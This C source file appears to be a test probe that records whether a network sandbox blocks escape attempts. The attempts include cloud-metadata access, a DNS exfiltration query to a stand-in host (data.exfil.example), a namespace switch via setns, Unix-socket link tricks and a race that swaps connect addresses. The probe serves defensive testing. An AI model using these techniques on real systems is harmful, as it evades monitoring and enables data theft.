// What a hostile step tries over the network. Every attempt writes one line, "NAME ERRNO" (0: it worked), and goes on.
// Arguments: ALLOWED DENIED UDP UNIX-PATH ABSTRACT-NAME OWN-FOLDER RACES
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static int allowed, denied, udp;

static void say(const char *name, int failed) { printf("%s %d\n", name, failed ? errno : 0); fflush(stdout); }

static struct sockaddr_in to4(const char *address, int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    return to;
}

static struct sockaddr_un to_path(const char *path) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
    return to;
}

static int try4(const char *address, int port) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = to4(address, port);
    int result = fd < 0 ? -1 : connect(fd, (void *)&to, sizeof to);
    if (!result) (void)!write(fd, "x", 1);
    int kept = errno;
    close(fd);
    errno = kept;
    return result;
}

static int try_unix(struct sockaddr_un *to, socklen_t length, int kind) {
    int fd = socket(AF_UNIX, kind, 0);
    int result = fd < 0 ? -1 : connect(fd, (void *)to, length);
    if (!result) (void)!write(fd, "x", 1);
    int kept = errno;
    close(fd);
    errno = kept;
    return result;
}

static int made(int fd) {
    int kept = errno;
    if (fd >= 0) close(fd);
    errno = kept;
    return fd < 0;
}

static void datagrams(void) {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = to4("127.0.0.1", udp);
    struct iovec part = {"x", 1};
    struct msghdr head = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
    struct mmsghdr many = {.msg_hdr = head};
    say("udp-sendto", sendto(fd, "x", 1, 0, (void *)&to, sizeof to) < 0);
    say("udp-connect", connect(fd, (void *)&to, sizeof to) < 0);
    sendmsg(fd, &head, 0);  // into our stub, wherever it is addressed to
    sendmmsg(fd, &many, 1, 0);
    close(fd);
    fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    to = to4("8.8.8.8", 53);
    // A question for data.exfil.example, as malware asks it of a server of its own.
    char question[] = "\1\2\1\0\0\1\0\0\0\0\0\0\4data\5exfil\7example\0\0\1\0\1";
    sendto(fd, question, sizeof question - 1, 0, (void *)&to, sizeof to);
    struct pollfd wait = {fd, POLLIN, 0};
    char answer[512];
    poll(&wait, 1, 10000);
    int size = recv(fd, answer, sizeof answer, 0);
    printf("dns-direct %d\n", size > 3 ? answer[3] & 15 : -1);
    close(fd);
}

static void fast_open(void) {
    struct sockaddr_in to = to4("127.0.0.1", denied);
    struct iovec part = {"x", 1};
    struct msghdr head = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
    struct mmsghdr many = {.msg_hdr = head};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    say("fast-open-sendto", sendto(fd, "x", 1, MSG_FASTOPEN, (void *)&to, sizeof to) < 0);
    say("fast-open-sendmsg", sendmsg(fd, &head, MSG_FASTOPEN) < 0);
    say("fast-open-sendmmsg", sendmmsg(fd, &many, 1, MSG_FASTOPEN) < 0);
    int on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    say("fast-open-connect", connect(fd, (void *)&to, sizeof to) || write(fd, "x", 1) < 0);
    close(fd);
}

static void kinds(void) {
    say("raw", made(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)));
    say("raw6", made(socket(AF_INET6, SOCK_RAW, IPPROTO_RAW)));
    say("ping", made(socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)));
    say("mptcp", made(socket(AF_INET, SOCK_STREAM, 262)));
    say("sctp", made(socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP)));
    say("packet", made(socket(AF_PACKET, SOCK_RAW, htons(3))));
    say("vsock", made(socket(AF_VSOCK, SOCK_STREAM, 0)));
    say("audit", made(socket(AF_NETLINK, SOCK_RAW, 9)));
    say("alg", made(socket(AF_ALG, SOCK_SEQPACKET, 0)));
    say("unix-datagram", made(socket(AF_UNIX, SOCK_DGRAM, 0)));
    int pair[2];
    say("unix-datagram-pair", socketpair(AF_UNIX, SOCK_DGRAM, 0, pair));
    say("high-bits", made(syscall(SYS_socket, AF_INET | 1L << 32, SOCK_RAW | 1L << 33, 1L)));
    char ring[256] = {0};
    say("io_uring", made(syscall(SYS_io_uring_setup, 4, ring)));
}

static void streams(void) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = to4("127.0.0.1", allowed);
    say("allowed", connect(fd, (void *)&to, sizeof to));
    char word[6] = {0};
    say("allowed-read", read(fd, word, 5) != 5 || strcmp(word, "hello"));
    struct sockaddr off = {.sa_family = AF_UNSPEC};
    connect(fd, &off, sizeof off);
    to = to4("127.0.0.1", denied);
    say("again", connect(fd, (void *)&to, sizeof to));
    close(fd);
    say("denied", try4("127.0.0.1", denied));
    say("any", try4("0.0.0.0", denied));
    say("metadata", try4("169.254.169.254", 80));
    say("world", try4("192.0.2.1", 443));
    fd = socket(AF_INET6, SOCK_STREAM, 0);
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6, .sin6_port = htons(denied)};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &to6.sin6_addr);
    say("mapped", connect(fd, (void *)&to6, sizeof to6));
    inet_pton(AF_INET6, "::ffff:169.254.169.254", &to6.sin6_addr);
    say("mapped-metadata", connect(fd, (void *)&to6, sizeof to6));
    close(fd);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3);
    say("device", connect(fd, (void *)&to, sizeof to));
    unsigned char route[] = {131, 7, 4, 127, 0, 0, 1, 0};
    say("source-route", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, route, sizeof route));
    say("short", connect(fd, (void *)&to, 7));
    say("no-memory", connect(fd, (void *)8, sizeof to));
    close(fd);
    say("not-a-socket", connect(1, (void *)&to, sizeof to));
}

static void unix_sockets(const char *path, const char *name, const char *own) {
    struct sockaddr_un to = to_path(path);
    say("unix-outside", try_unix(&to, sizeof to, SOCK_STREAM));
    char link[200];
    snprintf(link, sizeof link, "%s/link", own);
    (void)!symlink(path, link);
    to = to_path(link);
    say("unix-link", try_unix(&to, sizeof to, SOCK_STREAM));
    snprintf(link, sizeof link, "%s/hard", own);
    say("unix-hard-link-made", linkat(AT_FDCWD, path, AT_FDCWD, link, 0));
    to = to_path(link);
    say("unix-hard-link", try_unix(&to, sizeof to, SOCK_STREAM));
    char up[250];
    snprintf(up, sizeof up, "%s/../%s", own, strrchr(path, '/') + 1);
    to = to_path(up);
    say("unix-parent", try_unix(&to, sizeof to, SOCK_STREAM));
    struct sockaddr_un hidden = {.sun_family = AF_UNIX};
    strcpy(hidden.sun_path + 1, name);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    say("unix-abstract", try_unix(&hidden, length, SOCK_STREAM));
    char mine[200];
    snprintf(mine, sizeof mine, "%s/mine", own);
    to = to_path(mine);
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    say("unix-own", bind(listener, (void *)&to, sizeof to) || listen(listener, 4) || try_unix(&to, sizeof to, SOCK_STREAM));
}

static void own_listener(int family) {
    int fd = socket(family, SOCK_STREAM, 0);
    struct sockaddr_storage where;
    socklen_t size = sizeof where;
    listen(fd, 4);  // unbound: the kernel would choose a port on all addresses
    getsockname(fd, (void *)&where, &size);
    char text[64] = "";
    int port = 0;
    if (where.ss_family == AF_INET) {
        inet_ntop(AF_INET, &((struct sockaddr_in *)&where)->sin_addr, text, sizeof text);
        port = ntohs(((struct sockaddr_in *)&where)->sin_port);
    } else if (where.ss_family == AF_INET6) {
        inet_ntop(AF_INET6, &((struct sockaddr_in6 *)&where)->sin6_addr, text, sizeof text);
        port = ntohs(((struct sockaddr_in6 *)&where)->sin6_port);
    }
    printf("listens-at %s:%d\n", text, port);
    struct sockaddr_in wide = to4("0.0.0.0", 0);
    int other = socket(AF_INET, SOCK_STREAM, 0);
    if (!bind(other, (void *)&wide, sizeof wide) && !listen(other, 4)) {
        size = sizeof wide;
        getsockname(other, (void *)&wide, &size);
        printf("bound-at %s:%d\n", inet_ntoa(wide.sin_addr), ntohs(wide.sin_port));
        say("own-connect", try4("127.0.0.1", ntohs(wide.sin_port)));
    } else
        say("own-bind", 1);
    struct sockaddr_in lan = to4("192.0.2.77", 0);
    int third = socket(AF_INET, SOCK_STREAM, 0);
    say("bind-elsewhere", bind(third, (void *)&lan, sizeof lan));
}

static union { struct sockaddr_in in; struct sockaddr_un un; } flipping;
static volatile int racing = 1;
static struct sockaddr_un outside;

static void linger(unsigned turns) {
    __asm__ volatile("" ::: "memory");  // every value is to be seen
    for (volatile unsigned i = 0; i < turns; i++) continue;
}

static void *flip(void *nothing) {
    (void)nothing;
    struct sockaddr_in bad = to4("127.0.0.1", denied), good = to4("127.0.0.1", allowed);
    for (unsigned i = 0; racing; i++) {
        memcpy(&flipping, &good, sizeof good);
        linger(i % 64);
        memcpy(&flipping, &bad, sizeof bad);
        linger(i % 16);
        flipping.un.sun_family = AF_UNIX;
        linger(i % 16);
        flipping.in.sin_family = AF_INET;
        if (i % 7 == 0) memcpy(&flipping, &outside, 110);
    }
    return NULL;
}

// Sockets are let race as they are made: each try may reach the denied port or the foreign socket but for the monitor.
static void race(int tries, const char *path) {
    outside = to_path(path);
    flipping.in = to4("127.0.0.1", denied);
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    int won = 0, connected = 0;
    for (int i = 0; i < tries; i++) {
        int fd = socket(i % 5 == 4 ? AF_UNIX : AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        int result = connect(fd, (void *)&flipping, i % 5 == 4 ? sizeof outside : sizeof flipping.in);
        if (!result || errno == EINPROGRESS) {
            struct sockaddr_storage peer = {0};
            socklen_t size = sizeof peer;
            connected++;
            if (!getpeername(fd, (void *)&peer, &size) && (peer.ss_family != AF_INET ||
                ntohs(((struct sockaddr_in *)&peer)->sin_port) != allowed)) won++;
        }
        close(fd);
    }
    racing = 0;
    pthread_join(thread, NULL);
    printf("race-connected %d\nrace-won %d\n", connected, won);
}

int main(int count, char **words) {
    (void)count;
    allowed = atoi(words[1]);
    denied = atoi(words[2]);
    udp = atoi(words[3]);
    int open_ones = 0;
    for (int fd = 3; fd < 1024; fd++) open_ones += fcntl(fd, F_GETFD) >= 0;
    printf("inherited %d\n", open_ones);
    streams();
    datagrams();
    fast_open();
    kinds();
    unix_sockets(words[4], words[5], words[6]);
    own_listener(AF_INET);
    own_listener(AF_INET6);
    struct addrinfo *found;
    say("name", getaddrinfo("secret.exfil.example", "80", NULL, &found) == 0 ? 0 : (errno = EACCES));
    int net = open("/proc/1/ns/net", O_RDONLY);
    say("setns", setns(net, CLONE_NEWNET));
    race(atoi(words[7]), words[4]);
    return 0;
}
